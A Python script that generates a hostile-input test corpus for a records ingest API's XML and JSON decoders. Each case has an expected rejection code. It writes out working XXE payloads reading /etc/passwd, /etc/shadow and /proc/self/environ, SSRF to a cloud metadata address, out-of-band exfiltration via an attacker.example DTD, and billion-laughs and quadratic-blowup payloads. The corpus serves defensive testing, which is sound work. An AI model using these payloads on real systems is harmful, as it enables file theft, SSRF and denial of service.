#!/usr/bin/env python3
"""Generates the hostile-input corpus for POST /api/v1/records.

    python3 scripts/gen_hostile_corpus.py

Writes one file per case and `manifest.tsv` to Tests/HubIntegrationTests/Fixtures/hostile/ (and removes files
there that are no longer cases). Deterministic: no randomness, no clock; running it twice gives the same bytes.
Python 3 standard library only.

Every expected answer was worked out from the source of the decode/read path:
IngestService.decoder(for:) (media type, charset) -> JSONBodyDecoder/JSONParser or XMLBodyDecoder/SafeXMLParser
(libxml2) + RecordXML -> RecordReader.readBatch (batch-level errors, 400) -> DepartmentProfile.apply ->
RecordReader.read (schema) -> RecordRules (only when the schema found nothing). A record-level case is a
one-record batch whose record is valid except for the one deliberate defect named in the manifest, so that
it is rejected by the reader and nothing is ever written. No case uses a department profile's own field names
or values, so the answers are the same with or without a profile.
"""
import codecs
import copy
import json
import os
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "Tests", "HubIntegrationTests", "Fixtures", "hostile")

# Codes that pass every format check (DemoSetup.SampleRecords; catalog item of 衡阳市市场监督管理局).
CATALOG = "43012100010000"
IMPLEMENTATION = "11430400013248734H34301210001000001"
AGENCY = "11430400013248734H"
PARTY_USCC = "91330105MA2KER1H4N"
PARTY_USCC_BAD = "91330105MA2KER1H4M"  # check character (position 18) wrong -> invalid_check_digit
PENALTY_PARTY_USCC = "913303275586060950"
RESIDENT_ID = "430402199003071230"  # check digit verified below

JSON = "application/json"
XML = "application/xml"


# ------------------------------------------------------------------------------------------------ helpers
class Raw(str):
    """Emitted verbatim: JSON literal text, or XML markup inside an element."""


DEL = object()  # a path value that removes the member


def resident_check(body17):
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body17 + "10X98765432"[sum(int(c) * k for c, k in zip(body17, w)) % 11]


assert resident_check(RESIDENT_ID[:17]) == RESIDENT_ID

USCC_SYMBOLS = "0123456789ABCDEFGHJKLMNPQRTUWXY"


def uscc_with_check(body17):
    """Completes 17 characters with the GB 32100 check character (position 18), as USCC.withCheckCharacter."""
    w = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]
    check = (31 - sum(USCC_SYMBOLS.index(c) * k for c, k in zip(body17, w)) % 31) % 31
    return body17 + USCC_SYMBOLS[check]


assert uscc_with_check(PARTY_USCC[:17]) == PARTY_USCC and uscc_with_check(AGENCY[:17]) == AGENCY


def inspection(local_id="HX-0001"):
    return {
        "localId": local_id, "kind": "inspection", "operation": "upsert",
        "item": {"localCode": "JC-0042", "localName": "药品零售企业监督检查", "legalBasis": "《中华人民共和国药品管理法》第九十九条",
                 "catalogCode": CATALOG, "implementationCode": IMPLEMENTATION},
        "actionName": "对衡阳市某大药房的日常监督检查",
        "agency": {"name": "衡阳市市场监督管理局", "code": AGENCY},
        "subject": {"type": "01", "name": "衡阳市某大药房有限公司"},
        "party": {"name": "衡阳市某大药房有限公司", "nature": "2", "idType": "001", "idNumber": PARTY_USCC,
                  "registeredAddress": "湖南省衡阳市珠晖区东风路1号", "businessAddress": "湖南省衡阳市珠晖区东风路1号"},
        "regionCode": "430405",
        "inspection": {"form": "01", "category": "01", "mode": "01", "result": "01", "date": "2026-11-20T09:30:00+08:00",
                       "inspectors": [{"name": "检查员1", "certificateNo": "4304002026010"},
                                      {"name": "检查员2", "certificateNo": "4304002026011"}]},
        "submittedAt": "2026-11-21T10:00:00+08:00", "submittedBy": "张三",
    }


def penalty(local_id="HX-P-0001"):
    return {
        "localId": local_id, "kind": "penalty",
        "item": {"localCode": "CF-0107", "localName": "销售劣药行政处罚", "legalBasis": "《中华人民共和国药品管理法》第一百一十七条"},
        "actionName": "对衡阳市某大药房销售劣药的行政处罚",
        "agency": {"name": "衡阳市市场监督管理局", "code": AGENCY},
        "subject": {"type": "01", "name": "衡阳市某大药房有限公司"},
        "party": {"name": "衡阳市某大药房有限公司", "nature": "2", "idType": "001", "idNumber": PENALTY_PARTY_USCC},
        "regionCode": "430405",
        "penalty": {
            "caseSource": "01", "facts": "该药房销售的某批次药品经检验为劣药。", "basis": "《中华人民共和国药品管理法》第一百一十七条第一款",
            "procedure": "02", "hearing": False, "filedAt": "2026-10-08T09:00:00+08:00", "criminal": False, "major": False,
            "legalReview": {"done": True, "date": "2026-10-28T10:00:00+08:00", "opinion": "同意"},
            "decisionNo": "衡市监罚〔2026〕12号", "decidedAt": "2026-11-02T15:00:00+08:00", "kinds": ["01", "02"], "fineAmount": "5000.00",
            "execution": {"method": "自觉履行", "result": "已缴纳", "paidAmount": "5000.00", "closedAt": "2026-11-18T10:00:00+08:00"},
        },
        "submittedAt": "2026-11-21T10:00:00+08:00", "submittedBy": "李四",
    }


def coercion(local_id="HX-C-0001"):
    return {
        "localId": local_id, "kind": "coercion",
        "item": {"localCode": "QZ-0003", "localName": "查封涉嫌违法的场所、设施或者财物"},
        "actionName": "查封某仓库涉嫌假冒药品",
        "agency": {"name": "衡阳市市场监督管理局", "code": AGENCY},
        "subject": {"type": "01", "name": "衡阳市某医药仓储有限公司"},
        "party": {"name": "衡阳市某医药仓储有限公司", "nature": "2", "idType": "001", "idNumber": PARTY_USCC},
        "regionCode": "430405",
        "coercion": {"measure": "查封场所、设施或者财物", "startAt": "2026-11-01T09:00:00+08:00", "endAt": "2026-11-15T17:00:00+08:00",
                     "closingStatus": "已解除", "source": "现场检查"},
        "submittedAt": "2026-11-21T10:00:00+08:00", "submittedBy": "王五",
    }


def citizen(local_id="HX-0001"):
    """An inspection of a natural person identified by a resident ID number."""
    r = inspection(local_id)
    r["party"] = {"name": "刘某", "nature": "1", "idType": "111", "idNumber": RESIDENT_ID}
    r["subject"] = {"type": "02", "name": "衡阳市珠晖区刘某药店"}
    return r


def split_path(path):
    parts = []
    for p in path.split("."):
        while "[" in p:
            name, rest = p.split("[", 1)
            if name:
                parts.append(name)
            idx, p = rest.split("]", 1)
            parts.append(int(idx))
        if p:
            parts.append(p)
    return parts


def with_(rec, *changes):
    """A copy of `rec` with `path=value` changes applied (`DEL` removes; a new name is appended).
    A tuple path names members literally (for names that hold dots or are empty)."""
    r = copy.deepcopy(rec)
    for path, value in changes:
        parts = list(path) if isinstance(path, tuple) else split_path(path)
        cur = r
        for p in parts[:-1]:
            cur = cur[p]
        if value is DEL:
            del cur[parts[-1]]
        else:
            cur[parts[-1]] = value
    return r


def jdump(v):
    if isinstance(v, Raw):
        return str(v)
    if isinstance(v, dict):
        return "{" + ",".join(jdump(k) + ":" + jdump(x) for k, x in v.items()) + "}"
    if isinstance(v, list):
        return "[" + ",".join(jdump(x) for x in v) + "]"
    if isinstance(v, bool):
        return "true" if v else "false"
    if v is None:
        return "null"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return json.dumps(v, ensure_ascii=False)
    raise TypeError(v)


def jbatch(*records, batch_id="2026112600001"):
    head = {} if batch_id is None else {"batchId": batch_id}
    head["records"] = list(records)
    return jdump(head)


def xesc(s, attribute=False):
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return s.replace('"', "&quot;") if attribute else s


def xel(name, v):
    if v is None:
        return ""
    if isinstance(v, Raw):
        return f"<{name}>{v}</{name}>"
    if isinstance(v, dict):
        return f"<{name}>" + "".join(xel(k, x) for k, x in v.items()) + f"</{name}>"
    if isinstance(v, list):
        child = name[:-1] if name.endswith("s") else name + "Item"
        return f"<{name}>" + "".join(xel(child, x) for x in v) + f"</{name}>"
    if isinstance(v, bool):
        return f"<{name}>{'true' if v else 'false'}</{name}>"
    return f"<{name}>{xesc(str(v))}</{name}>"


def xbatch(*records, batch_id="2026112600001", encoding="UTF-8", decl=True):
    out = f'<?xml version="1.0" encoding="{encoding}"?>\n' if decl else ""
    out += "<records" + (f' batchId="{xesc(batch_id, True)}"' if batch_id is not None else "") + ">"
    out += "".join(xel("record", r) for r in records)
    return out + "</records>\n"


def once(text, old, new):
    assert text.count(old) == 1, (old, text.count(old))
    return text.replace(old, new)


# A request-level case still carries a record that the reader would reject (a wrong USCC check character),
# so that even a decoder that wrongly let the body through could not make anything be written.
FILLER = with_(inspection("HX-FILL-1"), ("party.idNumber", PARTY_USCC_BAD))
FILLER_JSON = jbatch(FILLER)
FILLER_XML = xbatch(FILLER)

# ------------------------------------------------------------------------------------------------ cases
CASES = []


def add(file, content_type, status, code, scope, note, body):
    if isinstance(body, str):
        body = body.encode("utf-8")
    assert "\t" not in note and "\n" not in note and "\t" not in content_type, file
    assert scope == ("record" if status == 200 else "request"), file
    CASES.append((file, content_type, status, code, scope, note, body))


def jreq(name, code, note, body, ct=JSON, status=400):
    add(f"json-{name}.json", ct, status, code, "request", note, body)


def jrec(name, code, note, record_or_body, ct=JSON):
    body = record_or_body if isinstance(record_or_body, (str, bytes)) else jbatch(record_or_body)
    add(f"json-{name}.json", ct, 200, code, "record", note, body)


def xreq(name, code, note, body, ct=XML):
    add(f"xml-{name}.xml", ct, 400, code, "request", note, body)


def xrec(name, code, note, record_or_body, ct=XML):
    body = record_or_body if isinstance(record_or_body, (str, bytes)) else xbatch(record_or_body)
    add(f"xml-{name}.xml", ct, 200, code, "record", note, body)


I = inspection
FJ = FILLER_JSON.encode("utf-8")
BOM = b"\xef\xbb\xbf"

# ================================================================ XML: DOCTYPE, entities (SafeXMLParser)
R = "<records><record><localId>&x;</localId></record></records>"
xreq("xxe-file", "doctype_refused", "XXE: external entity to file:///etc/passwd used in localId",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "file:///etc/passwd">]>{R}')
xreq("xxe-file-relative", "doctype_refused", "XXE: external entity to a relative path (../../../../etc/shadow)",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "../../../../etc/shadow">]>{R}')
xreq("xxe-file-windows", "doctype_refused", "XXE: external entity to file:///c:/windows/win.ini",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>{R}')
xreq("xxe-file-proc-environ", "doctype_refused", "XXE: external entity to /proc/self/environ (secrets in the environment)",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "file:///proc/self/environ">]>{R}')
xreq("xxe-url-http", "doctype_refused", "XXE: external entity to an http URL on loopback (SSRF)",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>{R}')
xreq("xxe-url-metadata", "doctype_refused", "XXE: external entity to the cloud metadata address 169.254.169.254",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>{R}')
xreq("xxe-url-https", "doctype_refused", "XXE: external entity to an https URL",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "https://attacker.example/x.xml">]>{R}')
xreq("xxe-url-ftp", "doctype_refused", "XXE: external entity to an ftp URL",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "ftp://attacker.example/x">]>{R}')
xreq("xxe-url-php-filter", "doctype_refused", "XXE: php://filter wrapper URL",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>{R}')
xreq("xxe-url-jar", "doctype_refused", "XXE: jar: URL",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x SYSTEM "jar:http://attacker.example/a.jar!/x">]>{R}')
xreq("xxe-public-id", "doctype_refused", "XXE: external entity declared with a PUBLIC identifier and URL",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x PUBLIC "-//A//X//EN" "http://127.0.0.1:9/x.dtd">]>{R}')
xreq("xxe-in-attribute", "doctype_refused", "entity reference used in the batchId attribute",
     '<?xml version="1.0"?><!DOCTYPE records [<!ENTITY x "2026112600001">]><records batchId="&x;"/>')
xreq("xxe-unparsed-ndata", "doctype_refused", "unparsed external entity with NDATA notation",
     '<?xml version="1.0"?><!DOCTYPE records [<!NOTATION n SYSTEM "file:///etc/passwd"><!ENTITY x SYSTEM "file:///etc/passwd" NDATA n>]><records/>')
xreq("xxe-no-xml-declaration", "doctype_refused", "XXE without an XML declaration",
     f'<!DOCTYPE records [<!ENTITY x SYSTEM "file:///etc/passwd">]>{R}')
xreq("xxe-gb18030", "doctype_refused", "XXE in a GB18030 document with Chinese text (charset in Content-Type)",
     f'<?xml version="1.0" encoding="GB18030"?><!DOCTYPE records [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     f'<records><record><actionName>检查&x;</actionName></record></records>'.encode("gb18030"), ct=XML + "; charset=GB18030")
xreq("xxe-utf16", "doctype_refused", "XXE in a UTF-16 document (the byte scan cannot see it; the parsed DOCTYPE is refused)",
     ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE records [<!ENTITY x "lol">]>'
      '<records><record><localId>&x;</localId></record></records>').encode("utf-16"))
xreq("param-entity-file", "doctype_refused", "parameter-entity XXE: %p; loading file:///etc/passwd in the internal subset",
     '<?xml version="1.0"?><!DOCTYPE records [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><records/>')
xreq("param-entity-oob", "doctype_refused", "parameter-entity out-of-band exfiltration (remote DTD plus %send;)",
     '<?xml version="1.0"?><!DOCTYPE records [<!ENTITY % file SYSTEM "file:///etc/hostname">'
     '<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd; %send;]><records/>')
xreq("param-entity-nested", "doctype_refused", "parameter entity declaring a general entity (error-based XXE)",
     '<?xml version="1.0"?><!DOCTYPE records [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'file:///nonexistent/x\'>"> %a; %b;]><records/>')
LOL = "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10))
xreq("billion-laughs", "doctype_refused", "billion laughs: 10 levels of 10 entity references",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY lol0 "lol">{LOL}]><records><record><localId>&lol9;</localId></record></records>')
xreq("billion-laughs-attribute", "doctype_refused", "billion laughs expanded in an attribute value",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY lol0 "lol">{LOL}]><records batchId="&lol9;"/>')
xreq("billion-laughs-recursive", "doctype_refused", "self-referencing entities (a -> b -> a)",
     '<?xml version="1.0"?><!DOCTYPE records [<!ENTITY a "&b;"><!ENTITY b "&a;">]><records><record><localId>&a;</localId></record></records>')
BIG = "A" * 100000
xreq("quadratic-blowup", "doctype_refused", "quadratic blow-up: one 100 000-character entity referenced 3 000 times",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY a "{BIG}">]><records><record><actionName>' + "&a;" * 3000 + "</actionName></record></records>")
xreq("quadratic-blowup-attribute", "doctype_refused", "quadratic blow-up in an attribute value",
     f'<?xml version="1.0"?><!DOCTYPE records [<!ENTITY a "{BIG}">]><records batchId="' + "&a;" * 3000 + '"/>')
xreq("doctype-public", "doctype_refused", "DOCTYPE with a PUBLIC identifier (XHTML DTD URL)",
     '<?xml version="1.0"?><!DOCTYPE records PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">' + FILLER_XML.split("\n", 1)[1])
xreq("doctype-system", "doctype_refused", "DOCTYPE with a SYSTEM identifier (relative DTD file)",
     '<?xml version="1.0"?><!DOCTYPE records SYSTEM "records.dtd">' + FILLER_XML.split("\n", 1)[1])
xreq("doctype-system-file", "doctype_refused", "DOCTYPE whose SYSTEM identifier is file:///etc/passwd",
     '<?xml version="1.0"?><!DOCTYPE records SYSTEM "file:///etc/passwd"><records/>')
xreq("doctype-system-url", "doctype_refused", "DOCTYPE whose SYSTEM identifier is an http URL",
     '<?xml version="1.0"?><!DOCTYPE records SYSTEM "http://127.0.0.1:9/records.dtd"><records/>')
xreq("doctype-internal-subset", "doctype_refused", "DOCTYPE with an internal subset of element declarations only",
     '<?xml version="1.0"?><!DOCTYPE records [<!ELEMENT records (record*)><!ELEMENT record ANY>]>' + FILLER_XML.split("\n", 1)[1])
xreq("doctype-attlist-default", "doctype_refused", "DOCTYPE whose ATTLIST would inject a default batchId attribute",
     '<?xml version="1.0"?><!DOCTYPE records [<!ATTLIST records batchId CDATA "INJECTED">]>' + FILLER_XML.split("\n", 1)[1])
xreq("doctype-empty-subset", "doctype_refused", "DOCTYPE with an empty internal subset",
     '<?xml version="1.0"?><!DOCTYPE records []><records/>')
xreq("doctype-bare", "doctype_refused", "bare DOCTYPE with a name only",
     "<!DOCTYPE records><records/>")
xreq("doctype-other-root", "doctype_refused", "DOCTYPE naming an HTML root",
     '<!DOCTYPE html><records/>')
xreq("doctype-after-comment", "doctype_refused", "DOCTYPE after a comment and a processing instruction",
     '<?xml version="1.0"?><!-- c --><?pi x?><!DOCTYPE records><records/>')
xreq("doctype-in-comment", "doctype_refused", "the text <!DOCTYPE inside a comment is refused by the byte scan",
     '<?xml version="1.0"?><records><!-- <!DOCTYPE records> --></records>')
xreq("entity-decl-without-doctype", "doctype_refused", "<!ENTITY declaration outside any DOCTYPE is refused by the byte scan",
     '<?xml version="1.0"?><!ENTITY x SYSTEM "file:///etc/passwd"><records/>')
xreq("doctype-lowercase", "malformed_xml", "lowercase <!doctype is not XML markup: not well-formed",
     '<!doctype records><records/>')
xreq("undefined-entity-nbsp", "malformed_xml", "HTML entity &nbsp; without a DTD is an undeclared entity",
     xbatch(with_(FILLER, ("actionName", Raw("检查&nbsp;记录")))))
xreq("undefined-entity-xxe-name", "malformed_xml", "a reference to an undeclared entity &xxe;",
     '<?xml version="1.0"?><records><record><localId>&xxe;</localId></record></records>')

# ================================================================ XML: nesting (maxDepth 32, libxml2 256)
def deep_xml(levels, inner="a"):
    n = levels - 1  # <records> is level 1
    return "<records>" + f"<{inner}>" * n + f"</{inner}>" * n + "</records>"


xreq("deep-33", "too_deep", "elements nested 33 deep (limit 32)", deep_xml(33))
xreq("deep-50-in-record", "too_deep", "nesting 50 deep inside a record's item element",
     "<records><record><item>" + "<a>" * 47 + "</a>" * 47 + "</item></record></records>")
xreq("deep-200", "too_deep", "elements nested 200 deep", deep_xml(200))
xreq("deep-257", "too_deep", "elements nested 257 deep (still within libxml2's own limit)", deep_xml(257))
xreq("deep-258", "malformed_xml", "elements nested 258 deep: libxml2 refuses the document itself (Excessive depth)", deep_xml(258))
xreq("deep-10000", "malformed_xml", "elements nested 10 000 deep", deep_xml(10000))
xreq("deep-unclosed-100000", "malformed_xml", "100 000 unclosed start tags", "<records>" + "<a>" * 100000)
xreq("deep-records-in-records", "too_deep", "<records> nested 40 deep", "<records>" * 40 + "</records>" * 40)
xrec("deep-32-unknown-element", "unknown_field", "an unknown element with children reaching exactly depth 32 (allowed), refused as unknown_field",
     once(xbatch(I("HX-X-D32")), "<submittedBy>", "<extra>" + "<a>" * 29 + "</a>" * 29 + "</extra><submittedBy>"))

# ================================================================ XML: truncated and not well-formed
FULL = xbatch(FILLER)
xreq("truncated-after-declaration", "malformed_xml", "truncated right after the XML declaration", FULL.split("\n")[0] + "\n")
xreq("truncated-in-start-tag", "malformed_xml", "truncated inside the <records start tag", FULL[:FULL.index("<records") + 5])
xreq("truncated-in-attribute", "malformed_xml", "truncated inside the batchId attribute value", FULL[:FULL.index("batchId=") + 13])
xreq("truncated-in-text", "malformed_xml", "truncated in the middle of a text value", FULL[:FULL.index("对衡阳市") + 3])
xreq("truncated-in-end-tag", "malformed_xml", "truncated inside an end tag", FULL[:FULL.index("</localId>") + 5])
xreq("truncated-before-last-end-tag", "malformed_xml", "the closing </records> is missing", FULL[:FULL.rindex("</records>")])
xreq("truncated-in-cdata", "malformed_xml", "truncated inside a CDATA section",
     '<?xml version="1.0"?><records><record><actionName><![CDATA[对衡阳市')
xreq("truncated-in-comment", "malformed_xml", "truncated inside a comment", '<?xml version="1.0"?><records><!-- no end')
xreq("truncated-in-entity-ref", "malformed_xml", "truncated inside a character reference", '<?xml version="1.0"?><records><record><localId>A&#x4')
xreq("truncated-in-multibyte", "malformed_xml", "truncated in the middle of a 3-byte UTF-8 character",
     FULL.encode("utf-8")[:FULL.encode("utf-8").index("对".encode()) + 2])
xreq("truncated-gb18030-multibyte", "malformed_xml", "GB18030 document cut in the middle of a 2-byte character",
     xbatch(FILLER, encoding="GB18030").encode("gb18030")[:xbatch(FILLER, encoding="GB18030").encode("gb18030").index("对".encode("gb18030")) + 1],
     ct=XML + "; charset=GB18030")
xreq("empty-body", "malformed_xml", "empty body", b"")
xreq("whitespace-only", "malformed_xml", "whitespace only", b" \r\n\t ")
xreq("declaration-only", "malformed_xml", "an XML declaration and no root element", '<?xml version="1.0" encoding="UTF-8"?>')
xreq("comment-only", "malformed_xml", "a comment and no root element", "<!-- records -->")
xreq("not-xml", "malformed_xml", "plain text", "this is not xml")
xreq("json-as-xml", "malformed_xml", "a JSON batch sent as application/xml", FILLER_JSON)
xreq("mismatched-tags", "malformed_xml", "end tag does not match start tag",
     '<records><record><localId>A</localid></record></records>')
xreq("two-roots", "malformed_xml", "two root elements", "<records/><records/>")
xreq("text-after-root", "malformed_xml", "text after the root element", FULL + "trailing")
xreq("unquoted-attribute", "malformed_xml", "attribute value without quotes", "<records batchId=2026112600001/>")
xreq("duplicate-attribute", "malformed_xml", "the batchId attribute twice on <records>", '<records batchId="A" batchId="B"/>')
xreq("bare-ampersand", "malformed_xml", "an unescaped & in text", xbatch(with_(FILLER, ("actionName", Raw("A & B")))))
xreq("bare-less-than", "malformed_xml", "an unescaped < in text", xbatch(with_(FILLER, ("actionName", Raw("1 < 2")))))
xreq("declaration-not-first", "malformed_xml", "whitespace before the XML declaration", "\n" + FULL)
xreq("charref-nul", "malformed_xml", "character reference &#0;", xbatch(with_(FILLER, ("actionName", Raw("A&#0;B")))))
xreq("charref-control-1", "malformed_xml", "character reference &#x1; is not an XML 1.0 character",
     xbatch(with_(FILLER, ("actionName", Raw("A&#x1;B")))))
xreq("charref-control-1f", "malformed_xml", "character reference &#x1F; is not an XML 1.0 character",
     xbatch(with_(FILLER, ("actionName", Raw("A&#x1F;B")))))
xreq("charref-surrogate", "malformed_xml", "character reference to a surrogate &#xD800;", xbatch(with_(FILLER, ("actionName", Raw("&#xD800;")))))
xreq("charref-fffe", "malformed_xml", "character reference to the non-character &#xFFFE;", xbatch(with_(FILLER, ("actionName", Raw("&#xFFFE;")))))
xreq("charref-too-big", "malformed_xml", "character reference beyond U+10FFFF", xbatch(with_(FILLER, ("actionName", Raw("&#x110000;")))))
xreq("raw-nul-byte", "malformed_xml", "a raw NUL byte in text", FULL.replace("对衡阳市", "对\x00衡阳市"))
xreq("raw-control-byte", "malformed_xml", "a raw 0x01 byte in text", FULL.replace("对衡阳市", "对\x01衡阳市"))
xreq("raw-form-feed", "malformed_xml", "a raw form feed (0x0C) in text", FULL.replace("对衡阳市", "对\x0c衡阳市"))
xreq("undeclared-namespace-prefix-root", "wrong_root", "root element with an undeclared prefix keeps its qualified name x:records",
     "<x:records/>")

# ================================================================ XML: invalid UTF-8 and wrong encodings
def xml_bytes_in_localid(seq):
    return b'<?xml version="1.0" encoding="UTF-8"?><records><record><localId>' + seq + b"</localId></record></records>"


for name, seq, what in [
    ("invalid-utf8-c3-28", b"\xc3\x28", "a 2-byte lead followed by an ASCII byte"),
    ("invalid-utf8-overlong-slash", b"\xc0\xaf", "overlong 2-byte encoding of /"),
    ("invalid-utf8-overlong-3byte", b"\xe0\x80\xaf", "overlong 3-byte encoding"),
    ("invalid-utf8-surrogate", b"\xed\xa0\x80", "UTF-8 encoded surrogate U+D800"),
    ("invalid-utf8-above-10ffff", b"\xf4\x90\x80\x80", "a code point above U+10FFFF"),
    ("invalid-utf8-ff", b"\xff", "the byte 0xFF"),
    ("invalid-utf8-lone-continuation", b"\x80", "a lone continuation byte"),
    ("invalid-utf8-truncated-sequence", b"\xe4\xb8", "a 3-byte sequence missing its last byte"),
]:
    xreq(name, "malformed_xml", f"invalid UTF-8 in an element: {what}", xml_bytes_in_localid(seq))
xreq("invalid-utf8-in-attribute", "malformed_xml", "invalid UTF-8 (0xFE) in the batchId attribute",
     b'<?xml version="1.0"?><records batchId="\xfe\xff"/>')
xreq("invalid-utf8-in-comment", "malformed_xml", "invalid UTF-8 (lone 0x80) inside a comment",
     b'<?xml version="1.0"?><records><!-- \x80 --></records>')
xreq("invalid-utf8-in-cdata", "malformed_xml", "invalid UTF-8 (overlong) inside CDATA",
     b'<?xml version="1.0"?><records><record><localId><![CDATA[\xc0\x80]]></localId></record></records>')
xreq("declared-utf8-gb18030-bytes", "malformed_xml", "declared UTF-8 but the bytes are GB18030",
     xbatch(FILLER, encoding="UTF-8").encode("gb18030"))
xreq("undeclared-gbk-bytes", "malformed_xml", "no declaration and no charset (so UTF-8) but the bytes are GBK",
     xbatch(FILLER, decl=False).encode("gbk"))
xreq("charset-utf8-overrides-gb18030", "malformed_xml",
     "Content-Type charset=utf-8 wins over the declared GB18030, and the GB18030 bytes are not UTF-8",
     xbatch(FILLER, encoding="GB18030").encode("gb18030"), ct=XML + "; charset=utf-8")
xreq("declared-gb2312-gbk-only-chars", "malformed_xml", "declared GB2312 but holds characters only GBK has (镕 and 喆)",
     xbatch(with_(FILLER, ("party.name", "朱镕喆有限公司")), encoding="GB2312").encode("gbk"))

for name, decl, what in [
    ("declared-iso-8859-1", "ISO-8859-1", "ISO-8859-1"),
    ("declared-latin1", "latin1", "latin1"),
    ("declared-utf-16", "UTF-16", "UTF-16 (in an ASCII declaration)"),
    ("declared-utf-16le", "UTF-16LE", "UTF-16LE"),
    ("declared-utf-32", "UTF-32", "UTF-32"),
    ("declared-shift-jis", "Shift_JIS", "Shift_JIS"),
    ("declared-euc-jp", "EUC-JP", "EUC-JP"),
    ("declared-big5", "Big5", "Big5"),
    ("declared-windows-1252", "windows-1252", "windows-1252"),
    ("declared-us-ascii", "US-ASCII", "US-ASCII"),
    ("declared-ebcdic", "IBM037", "EBCDIC IBM037"),
    ("declared-utf-7", "UTF-7", "UTF-7"),
    ("declared-utf8-underscore", "UTF_8", "UTF_8 (not a name of UTF-8 the hub takes)"),
    ("declared-empty-encoding", "", "an empty encoding name"),
]:
    xreq(name, "unsupported_charset", f"XML declaration names encoding {what}", FILLER_XML.replace('encoding="UTF-8"', f'encoding="{decl}"'))
xreq("declared-big5-single-quotes", "unsupported_charset", "encoding='Big5' in single quotes",
     FILLER_XML.replace('encoding="UTF-8"', "encoding='Big5'"))
xreq("bom-then-declared-latin1", "unsupported_charset", "UTF-8 BOM followed by a declaration of ISO-8859-1",
     BOM + FILLER_XML.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode())
for name, cs in [("shift-jis", "Shift_JIS"), ("iso-8859-1", "ISO-8859-1"), ("utf-16", "UTF-16"), ("empty", ""), ("big5", "big5")]:
    xreq(f"content-type-charset-{name}", "unsupported_charset", f"Content-Type charset={cs or '(empty)'} is not taken for XML",
         FILLER_XML, ct=f"{XML}; charset={cs}")
xreq("charset-header-ok-declared-bad", "unsupported_charset", "Content-Type charset=GB18030 is taken, but the declared encoding Big5 is still refused",
     FILLER_XML.replace('encoding="UTF-8"', 'encoding="Big5"'), ct=XML + "; charset=GB18030")

# ================================================================ XML: structure (RecordXML, RecordReader batch level)
xreq("wrong-root-batch", "wrong_root", "root element <batch>", "<batch/>")
xreq("wrong-root-record", "wrong_root", "a single <record> as the root", xel("record", FILLER))
xreq("wrong-root-capitalised", "wrong_root", "root element <Records> (names are case-sensitive)", FILLER_XML.replace("records", "Records"))
xreq("wrong-root-soap", "wrong_root", "a SOAP envelope around the batch",
     '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>' + FILLER_XML.split("\n", 1)[1] + "</soap:Body></soap:Envelope>")
xreq("wrong-root-html", "wrong_root", "an XHTML page with a script", '<html><body><script>alert(1)</script></body></html>')
xreq("child-not-record", "unknown_field", "<records> holds an <item> element", "<records><item/></records>")
xreq("child-record-capitalised", "unknown_field", "<records> holds a <Record> element", FILLER_XML.replace("<record>", "<Record>").replace("</record>", "</Record>"))
xreq("child-after-valid-record", "unknown_field", "a <note> after a <record> in <records>", once(FILLER_XML, "</records>", "<note>x</note></records>"))
xreq("child-xinclude", "unknown_field", "an XInclude element in <records> (XInclude is not processed)",
     '<records xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></records>')
xreq("root-unknown-attribute", "unknown_field", "an attribute other than batchId on <records>",
     FILLER_XML.replace('<records batchId="2026112600001"', '<records batchId="2026112600001" department="HY-WJ"'))
xreq("root-xsi-schema-location", "unknown_field", "xsi:schemaLocation pointing to a remote schema on <records>",
     FILLER_XML.replace("<records ", '<records xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://attacker.example/x.xsd" '))
xreq("empty-records", "empty", "<records/> with no record", '<?xml version="1.0"?><records batchId="2026112600001"/>')
xreq("records-comments-and-text-only", "empty", "<records> with only text, a comment and a processing instruction",
     "<records>text<!-- c --><?pi x?></records>")
xreq("batchid-too-long", "invalid_value", "a batchId attribute of 51 characters", FILLER_XML.replace("2026112600001", "B" * 51))
xreq("batchid-control-del", "invalid_value", "a batchId attribute holding DEL (&#x7F;)", FILLER_XML.replace("2026112600001", "2026&#x7F;1"))
xreq("too-many-records", "too_many_records", "1 001 empty <record/> elements", "<records>" + "<record/>" * 1001 + "</records>")

DUP = xbatch(I("HX-X-DUP"))
xreq("duplicate-localId", "duplicate_element", "<localId> twice in a record", once(DUP, "<kind>", "<localId>HX-X-DUP2</localId><kind>"))
